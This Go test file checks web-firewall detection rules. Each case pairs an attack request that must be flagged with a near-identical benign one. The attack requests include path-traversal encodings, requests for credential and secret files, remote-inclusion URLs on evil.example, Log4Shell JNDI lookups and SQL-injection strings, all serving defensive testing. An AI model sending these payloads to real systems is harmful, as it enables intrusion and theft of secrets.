package detect

import (
	"testing"

	"github.com/apiwarden/apiwarden/apimodel/call"
)

// Boundaries of the rules written from the CRS 930/931/942/943/944 gap
// analysis: the shortest request that must fire each rule and the
// closest benign request that must not.

func mpField(name, value string) *call.Request {
	body := "--b\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n--b--\r\n"
	return post("/upload", "multipart/form-data; boundary=b", body)
}

func mpFile(name string) *call.Request {
	body := "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name + "\"\r\nContent-Type: application/json\r\n\r\n{}\r\n--b--\r\n"
	return post("/upload", "multipart/form-data; boundary=b", body)
}

func TestTraversalFamilyBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		// One parent step anywhere, in any encoding.
		{"traversal-parent-step", get("/p?f=img/../a"), get("/p?f=img/a..b")},
		{"traversal-parent-step", get("/p?f=a/.../b"), get("/p?f=a/..../b")},
		{"traversal-parent-step", get("/p?f=a/..;/b"), get("/p?f=a/..b;c")},
		{"traversal-parent-step", get("/p?f=a%5c..%5cb"), get("/p?f=a%5cb%5cc")},
		{"traversal-parent-step", get("/p?f=a/%c0%ae%c0%ae/b"), get("/p?f=a/%c0%ae/b")},
		{"traversal-parent-step", get("/p?f=x/..%c0%qfb"), get("/p?f=x%c0%qfb")},
		{"traversal-parent-step", get("/p?f=x/..%uefc8b"), get("/p?f=x%uefc8b")},
		{"traversal-parent-step", get("/p?f=x/.%01./b"), get("/p?f=x/.%01/b")},
		{"traversal-parent-step", get("/p?f=a/0x2e0x2e0x2fb"), get("/p?f=a/0x2e0x2fb")},
		{"traversal-parent-step", get("/p?f=x/.\"./b"), get("/p?f=x/.\"/b")},
		// A '%' the decoder left (no escape follows) between the dots and the
		// separator: "%\..%\b" once the double encoding is undone.
		{"traversal-parent-step", get("/p?f=%25%5c..%25%5cb"), get("/p?f=50%25..%25%5c")},
		{"traversal-parent-step", get("/api/..;/admin"), get("/api/v1..2/admin")},
		{"traversal-parent-step", get("/p", "X-Original-URL", "/../admin"), get("/p", "X-Original-URL", "/admin")},
		{"traversal-parent-step", mpField("../x", "1"), mpField("x.y", "1")},
		{"traversal-parent-step", post("/p", "application/xml", "<a><f>a/../b</f></a>"), post("/p", "application/xml", "<a><f>a/b</f></a>")},
		// The raw query as a whole and skipped headers.
		{"traversal-raw-request", get("/p?f=0x2f..0x5cx"), get("/p?f=0x2f0x5cx")},
		{"traversal-raw-request", get("/p", "Accept-Language", "../../x"), get("/p", "Accept-Language", "en-US,en;q=0.9")},
		{"traversal-raw-request", get("/p", "Host", "localhost/../../x"), get("/p", "Host", "a.b.example.com")},
		// OS files in parameters.
		{"lfi-os-directory", get("/p?f=/etc/redis.conf"), get("/p?f=/api/etc")},
		{"lfi-os-directory", get("/p?f=etc/issue"), get("/p?f=fetch/issue")},
		{"lfi-os-directory", get("/p?f=/proc/kallsyms"), get("/p?f=/proc/list")},
		{"lfi-os-directory", get("/p?f=/sys/class/net"), get("/p?f=/sys/classic")},
		{"lfi-os-directory", get("/p?f=/var/lib/mysql/x"), get("/p?f=/var/lib/app/x")},
		{"lfi-os-directory", get("/p?f=logs/access.log"), get("/p?f=logs/access")},
		{"lfi-os-directory", get("/p?f=/run/secrets/db"), get("/p?f=/run/jobs/db")},
		{"lfi-os-directory", get("/p?f=C:/Windows/System32/drivers"), get("/p?f=C:/Windows")},
		{"lfi-os-directory", get("/p?f=/opt/tomcat/conf"), get("/p?f=/opt/myapp/conf")},
		{"lfi-os-directory", get("/p?f=C:%5Cinetpub%5Cwwwroot"), post("/p", jsonCT, `{"t":"Windows path C:\\Program Files\\App is not quoted"}`)},
		{"lfi-os-file-name", get("/p?f=win.ini"), get("/p?f=wini.ini2")},
		{"lfi-os-file-name", get("/p?f=.bashrc"), get("/p?f=bashrc")},
		{"lfi-os-file-name", get("/p?f=/home/u/.mysql_history"), get("/p?f=/home/u/mysql_history")},
		{"lfi-os-file-name", get("/p?f=/srv/php.ini"), get("/p?f=edit+php.ini+first")},
		{"lfi-os-file-name", get("/p?f=/root/.ssh/authorized_keys"), get("/p?f=authorized+keys")},
		{"lfi-os-file-name", get("/p?f=backup.sql.gz"), get("/p?f=backup.sql")},
		{"lfi-app-config-path", get("/p?f=../config.php"), get("/p?f=config.php")},
		{"lfi-app-config-path", get("/p?f=app/config/database.yml"), get("/p?f=app/config/database")},
		{"lfi-dotfile-value", get("/p?f=.gitignore"), get("/p?f=gitignore")},
		{"lfi-dotfile-value", get("/p?f=~/.cache/x"), post("/p", jsonCT, `{"t":"clear ~/.cache first"}`)},
		{"lfi-dotfile-value", get("/p?f=/srv/app/package.json"), get("/p?f=/srv/app/package.json5")},
		{"lfi-dotfile-value", get("/p?f=/tmp/x"), get("/p?f=/api/tmp/x")},
		{"lfi-server-install-path", get("/p?f=apache2/envvars"), get("/p?f=apache2")},
		{"lfi-server-install-path", get("/p?f=mysql/data"), get("/p?f=mysql/database")},
		{"lfi-app-config-name", get("/p?f=config.php"), mpFile("config.json")},
		{"lfi-app-config-name", get("/p?f=database.yml"), post("/p", jsonCT, `{"t":"see database.yml for it"}`)},
		// Restricted files in the URL path.
		{"restricted-file-path", get("/.gitignore"), get("/.well-known/security.txt")},
		{"restricted-file-path", get("/app/.vscode/settings.json"), get("/app/vscode/settings.json")},
		{"restricted-file-path", get("/composer.lock"), get("/composer")},
		{"restricted-file-path", get("/CLAUDE.md"), get("/docs/claude")},
		{"restricted-file-path", get("/.claude/settings.json"), get("/claude/settings.json")},
		{"restricted-file-path", get("/.index.php.swp"), get("/index.php")},
		{"restricted-file-path", get("/@fs/etc/x"), get("/@me/etc/x")},
		{"restricted-file-path", get("/WEB-INF/web.xml"), get("/web/inf")},
	})
}

func TestRFIFamilyBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"rfi-url-question-suffix", get("/p?u=http://evil.example/shell?"), get("/p?u=http://evil.example/shell?x=1")},
		{"rfi-url-question-suffix", post("/p", jsonCT, `{"u":"ftp://evil.example/?"}`), post("/p", jsonCT, `{"u":"what is ftp://x?"}`)},
		{"rfi-include-assignment", get("/p?x=include($a=http://evil.example/x)"), get("/p?x=include(a)&u=http://evil.example/x")},
		{"rfi-include-assignment", post("/p", "text/plain", "GALLERY_BASEDIR=http://evil.example/"), post("/p", "text/plain", "GALLERY_BASEDIR=/var/www")},
	})
}

func TestLog4ShellFamilyBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"log4shell-lookup-opener", get("/p?q=%24%7Bctx"), get("/p?q=%24%7Bcount%7D")},
		{"log4shell-lookup-opener", get("/p?q=%26dollar%26lcub;jndi"), get("/p?q=%26dollar%26lcub;name")},
		{"log4shell-lookup-opener", get("/p?q=$%5C%7Bjndi:x%7D"), get("/p?q=$%5Cjndi")},
		{"log4shell-lookup-opener", get("/p?q=%24%7Ba%24%7Bb%7D"), get("/p?q=%24%7Ba%7D%24%7Bb%7D")},
		{"log4shell-lookup-opener", get("/p", "Cookie", "${jndi:ldap://x}=1"), get("/p", "Cookie", "jndi=1")},
		{"log4shell-raw-request", get("/p?q=&dollar;{jndi:ldap://x}"), get("/p?q=&dollar=1")},
		{"log4shell-raw-request", get("/p", "Accept", "${jndi:ldap://x/a}"), get("/p", "Accept", "application/json")},
		// The Cookie header whole: its ';' would cut an entity-spelled opener.
		{"log4shell-raw-request", get("/p", "Cookie", "a=&#36;&#123;jndi:ldap://x/a}"), get("/p", "Cookie", "a=&#36;1; b=&#123;2")},
		{"log4shell-raw-request", get("/p", "Cookie", "a=&#x24;&#x7b;jndi:x}"), get("/p", "Cookie", "a=&#x24;&#x7b;price}")},
		{"log4shell-raw-request", get("/p", "Host", "${jndi:ldap://x/a}"), get("/p", "Host", "api.example.com:8443")},
		{"log4shell-raw-request", get("/p", "Authorization", "Bearer ${jndi:ldap://x/a}"), get("/p", "Authorization", "Bearer abc.def.ghi")},
	})
}

func TestSessionFamilyBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"session-cookie-planted", get("/p?q=document.cookie%3D%22a%3D1%3B%20domain%3D.x.com%22"), get("/p?q=document.cookie%20is%20read-only")},
		{"session-cookie-planted", get("/p?q=%3Cmeta%20http-equiv%3DSet-Cookie%20content%3Da%3E"), get("/p?q=%3Cmeta%20http-equiv%3Drefresh%3E")},
		{"session-fixation-param", mpField("JSESSIONID", "abc"), mpField("session_note", "abc")},
	})
}

func TestSQLiGapFamilyBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"sqli-magic-number", get("/p?n=-2147483649"), get("/p?n=-2147483640")},
		{"sqli-magic-number", get("/p?n=0000012345"), get("/p?n=12345")},
		{"sqli-magic-number", get("/p?n=1e309"), get("/p?n=1e30")},
		{"sqli-system-schema", get("/p?t=msysobjects"), get("/p?t=sysobjects_notes")},
		{"sqli-numeric-evasion", get("/p?v=1.e,1"), get("/p?v=1.e")},
		{"sqli-db-function-more", get("/p?v=find_in_set(1,a)"), get("/p?v=find_in_set")},
		{"sqli-db-function-more", get("/p?v=x+or+user()"), get("/p?v=api.user()")},
		{"sqli-mongo-operator-in-value", get("/p?v=[$ne]=1"), get("/p?v=[ne]=1")},
		{"sqli-mongo-operator-in-value", get("/p?v=$nin"), get("/p?v=$nine")},
		{"sqli-statement-after-terminator", get("/p?v=1;select+1"), get("/p?v=ok;+select+the+item")},
		{"sqli-statement-after-terminator", get("/p?v=x');drop+users"), get("/p?v=x;drop")},
		{"sqli-leading-statement", get("/p?v=1+update+users+set"), get("/p?v=%22DROP+TABLE%22+language:sql")},
		{"sqli-leading-statement", get("/p?v=--+alter+user"), get("/p?v=alter+user")},
		{"sqli-quote-clause", get("/p?v=%27!1"), get("/p?v=it%27s+great!")},
		{"sqli-quote-clause", get("/p?v=%27+having+1"), get("/p?v=%27having%27")},
		{"sqli-conditional-probe", get("/p?v=+case+when+1+then+1+end"), get("/p?v=in+case+we+want+then")},
		{"sqli-conditional-probe", get("/p?v=if(a%3Cb"), get("/p?v=if+a%3Cb")},
		{"sqli-charset-waitfor-goto", get("/p?v=alter+x+character+set+utf8"), get("/p?v=alter+the+character+of+it")},
		{"sqli-charset-waitfor-goto", get("/p?v=%22;+waitfor+time+%2212:00%22"), get("/p?v=waitfor+time")},
		{"sqli-procedure-construct", get("/p?v=create+function+f+returns+int"), get("/p?v=create+function+f")},
		{"sqli-procedure-construct", get("/p?v=declare+%23x"), get("/p?v=declare+x")},
		{"sqli-procedure-construct", get("/p?v=end);"), get("/p?v=end)")},
		{"sqli-procedure-construct", get("/p?v=1::double+precision"), get("/p?v=1::double")},
		{"sqli-json-literal-operator", get("/p?v=%27%7B%22a%22:1%7D%27"), get("/p?v=%7B%22a%22:1%7D")},
		{"sqli-json-literal-operator", get("/p?v=-%3E%27$.a%27"), get("/p?v=-%3E%27a%27")},
		{"sqli-sleep-call", get("/p?v=;+sleep(5)"), get("/p?v=time.sleep(5)")},
		{"sqli-union-select-from", get("/p?v=union+x+select+y+from"), get("/p?v=union+x+select+y")},
		{"sqli-libinjection", post("/p", "application/xml", "<a><id>1' or '1'='1</id></a>"), post("/p", "application/xml", "<a><id>1</id></a>")},
	})
}

func TestJavaGapFamilyBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"java-runtime-sink-pair", get("/p?v=ProcessBuilder+unmarshaller"), get("/p?v=runtime+python3")},
		{"java-runtime-sink-pair", get("/p?v=getProperty(1)+Runtime"), get("/p?v=getProperty(1)")},
		{"java-reflection-parser-class", get("/p?v=x.classLoader.y"), get("/p?v=class+loader")},
		{"java-reflection-parser-class", get("/p?v=org.dom4j.io.SAXReader"), get("/p?v=org.dom")},
	})
}

// TestParentStepEncodings pins the separator and dot spellings the
// parent-step check understands.
func TestParentStepEncodings(t *testing.T) {
	for _, c := range []struct {
		v    string
		want bool
	}{
		{"../a", true}, {"a/../b", true}, {"a\\..\\b", true}, {"a;..;b", true}, {"a/.../b", true},
		{"a/..../b", false}, {"a/./b", false}, {"..a", false}, {"a..b/c", false}, {"1..10", false},
		{"a/..?/b", true}, {"a/.\x01./b", true}, {"a/.. /b", true}, {"a/..^/b", true},
		{"a\xc0%qf..\xc0%qfb", true}, {"a%bg%qf..%bg%qfb", true}, {"a\ueFC8..\uf025b", true},
		{"a\xf8\x80\x80\x80\xaf\xf8\x80\x80\x80\xae\xf8\x80\x80\x80\xae\xf8\x80\x80\x80\xafb", true},
		{"a0x5c0x2e0x2e0x5cb", true}, {"a/\xc0.\xc0./b", true},
	} {
		if got := checkParentStep("", []byte(c.v)); got != c.want {
			t.Errorf("checkParentStep(%q) = %v, want %v", c.v, got, c.want)
		}
	}
}

// TestLookupOpenerSpellings pins the opener spellings and the nesting
// window of the lookup-opener check.
func TestLookupOpenerSpellings(t *testing.T) {
	for _, c := range []struct {
		v    string
		want bool
	}{
		{"${jndi:x}", true}, {"${ jndi:x}", true}, {"${ctx:a}", true}, {"$\\{jndi:x}", true},
		{"&dollar;{jndi", true}, {"&dollar{jndi", true}, {"$&lbrace;jndi", true}, {"$&lcub;jndi", true}, {"&dollar;&lcub;ctx", true},
		{"${a${b}", true}, {"${0123456789abcde${", true}, {"${0123456789abcdef${", false},
		{"${a}${b}", false}, {"${name}", false}, {"$jndi", false}, {"{jndi}", false}, {"&dollar;jndi", false},
	} {
		if got := checkLookupOpener("", []byte(c.v)); got != c.want {
			t.Errorf("checkLookupOpener(%q) = %v, want %v", c.v, got, c.want)
		}
	}
}

// TestFamilyGates pins the anchored SQL rules' gates.
func TestFamilyGates(t *testing.T) {
	for _, c := range []struct {
		v    string
		at   int
		gate func([]byte, int) bool
		want bool
	}{
		{"user(", 0, notAfterWordGate, true}, {"x or user(", 5, notAfterWordGate, true},
		{"api.user(", 4, notAfterWordGate, false}, {"word(", 1, notAfterWordGate, false}, {"$user(", 1, notAfterWordGate, false},
		{";select", 0, afterTerminatorGate, true}, {"1;select", 1, afterTerminatorGate, true}, {"'  ;select", 3, afterTerminatorGate, true},
		{"x);drop", 2, afterTerminatorGate, true}, {"ok; select", 2, afterTerminatorGate, false},
	} {
		if got := c.gate([]byte(c.v), c.at); got != c.want {
			t.Errorf("gate(%q, %d) = %v, want %v", c.v, c.at, got, c.want)
		}
	}
}
